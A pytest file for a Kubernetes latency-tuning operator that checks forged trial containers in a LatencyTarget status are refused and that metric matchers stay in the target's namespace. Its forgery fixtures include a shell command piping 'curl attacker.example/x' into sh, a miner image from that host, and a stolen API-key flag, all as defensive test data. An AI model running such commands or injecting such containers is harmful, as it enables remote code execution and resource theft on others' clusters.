"""A status written by someone else cannot make the operator patch what no knob would.

The LatencyTarget's status is the operator's memory (the trial it is rolling out, what a
rollback restores), and anyone allowed to write `latencytargets/status` can forge it. The
Reconciler checks every container change against the running one before patching; a forged one
is refused (Degraded=True, reason ChangeRefused, a Warning event) and the Deployment is left as
it is. The ports are in-memory fakes (``latency_tuner.testing.cluster``).
"""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from latency_tuner.api.spec import LatencyTargetSpec
from latency_tuner.api.status import LatencyTargetStatus
from latency_tuner.controller.deployment import DeploymentView
from latency_tuner.controller.gather import selector
from latency_tuner.controller.ports import MetricsSource, Ports
from latency_tuner.controller.reconciler import Reconciler
from latency_tuner.core.cluster import ContainerConfig, PodFacts
from latency_tuner.core.rollout import Reason
from latency_tuner.core.rollout.values import container_snapshot
from latency_tuner.testing.cluster import StaticDeployments, StaticLatencyTargets
from latency_tuner.testing.metrics import ScriptedMetrics

NOW = datetime(2026, 12, 2, 12, 0, tzinfo=UTC)
MODEL = "meta-llama/Llama-3.1-8B-Instruct"
IMAGE = "vllm/vllm-openai:v0.11.0"


def deployment() -> dict[str, Any]:
    container = {"name": "vllm", "image": IMAGE, "args": [MODEL, "--max-num-seqs", "4"]}
    return {
        "metadata": {"name": "llama", "namespace": "ml", "generation": 1},
        "spec": {"replicas": 1, "template": {"spec": {"containers": [container]}}},
        "status": {"observedGeneration": 1, "replicas": 1, "updatedReplicas": 1,
                   "readyReplicas": 1, "availableReplicas": 1},
    }  # fmt: skip


FORGERIES = {
    "a shell that downloads and runs a script": ContainerConfig(
        ("/bin/sh", "-c"), ("curl -s attacker.example/x | sh",), IMAGE, None
    ),
    "another image": ContainerConfig(
        None, (MODEL, "--max-num-seqs", "4"), "attacker.example/miner:latest", None
    ),
    "eight GPUs": ContainerConfig(None, (MODEL, "--max-num-seqs", "4"), IMAGE, 8),
    "a server flag": ContainerConfig(None, (MODEL, "--api-key", "stolen"), IMAGE, None),
}


def forged_target(to: ContainerConfig, running: ContainerConfig) -> dict[str, Any]:
    trial = {
        "id": 1,
        "knob": "maxNumSeqs",
        "from": "4",
        "to": "32",
        "startedAt": "2026-12-02T11:59:00Z",
        "fromContainer": container_snapshot(running).model_dump(mode="json", by_alias=True),
        "toContainer": container_snapshot(to).model_dump(mode="json", by_alias=True),
    }
    status = {
        "phase": "RollingOut",
        "phaseSince": "2026-12-02T11:59:00Z",
        "observedGeneration": 1,
        "currentTrial": trial,
        "trialCount": 1,
        "expectedContainer": running.fingerprint(),
    }
    return {
        "metadata": {"name": "mine", "namespace": "ml", "generation": 1,
                     "creationTimestamp": "2026-01-01T00:00:00Z"},
        "spec": {
            "targetRef": {"name": "llama", "container": "vllm"},
            "objectives": {"ttft": {"percentile": 95, "threshold": "500ms"}},
        },
        "status": LatencyTargetStatus.model_validate(status).model_dump(
            mode="json", by_alias=True, exclude_none=True
        ),
    }  # fmt: skip


@pytest.mark.parametrize("forgery", list(FORGERIES))
async def test_a_forged_trial_container_is_refused_and_the_deployment_left_alone(
    forgery: str,
) -> None:
    dep = deployment()
    running = DeploymentView(dep).container_config("vllm")
    metrics = ScriptedMetrics(lambda _dep, _start, _end: None)

    async def metrics_for(*_: Any) -> MetricsSource:
        return await metrics.metrics_for(*_)

    deployments = StaticDeployments(
        {"llama": dep}, {"llama": (PodFacts("llama-1", None, True, 0),)}
    )
    targets = StaticLatencyTargets([forged_target(FORGERIES[forgery], running)])
    ports = Ports(
        deployments=deployments,
        latencytargets=targets,
        metrics_for=metrics_for,
        nodes=None,
        clock=lambda: NOW,
    )
    outcome = await Reconciler(ports).run(targets.items[0])
    assert deployments.patches == []
    assert outcome.patched == 0
    assert Reason.CHANGE_REFUSED in [n.reason for n in outcome.notes]
    assert outcome.status is not None
    (degraded,) = [c for c in outcome.status.conditions if c.type == "Degraded"]
    assert (degraded.status, degraded.reason) == ("True", "ChangeRefused")


def test_custom_matchers_never_leave_the_latency_targets_namespace() -> None:
    spec = LatencyTargetSpec.model_validate(
        {
            "targetRef": {"name": "llama"},
            "objectives": {"ttft": {"percentile": 95, "threshold": "500ms"}},
            "metrics": {
                "matchers": [
                    {"label": "namespace", "op": "=~", "value": ".*"},
                    {"label": "app", "op": "=", "value": "vllm"},
                ]
            },
        }
    )
    matchers = selector(spec, "team-a")
    assert [(m.label, m.op, m.value) for m in matchers] == [
        ("namespace", "=", "team-a"),
        ("app", "=", "vllm"),
    ]
